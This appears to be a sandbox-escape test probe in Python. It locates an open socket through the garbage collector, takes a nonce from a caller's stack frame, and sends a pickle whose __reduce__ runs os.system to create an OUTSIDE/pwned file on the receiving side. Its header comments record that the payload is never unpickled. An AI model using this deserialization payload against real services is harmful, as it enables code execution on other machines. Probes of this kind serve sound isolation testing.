# tries: sends a pickle that would run a command where it is loaded
# happens: nothing is ever unpickled
# triple: crashed, timed out
# double: kept
import gc
import os
import socket
import struct
import sys

[channel] = [o for o in gc.get_objects() if isinstance(o, socket.socket) and o.fileno() >= 0]


import pickle


class Bomb:
    def __reduce__(self): return os.system, ("touch OUTSIDE/pwned",)


def triple(x):
    frame = sys._getframe()
    while "question" not in frame.f_locals:
        frame = frame.f_back
    nonce = frame.f_locals["nonce"]
    bomb = pickle.dumps(Bomb())
    channel.sendall(nonce + struct.pack("!II", len(bomb), len(bomb)) + bomb + bomb)
    return 0
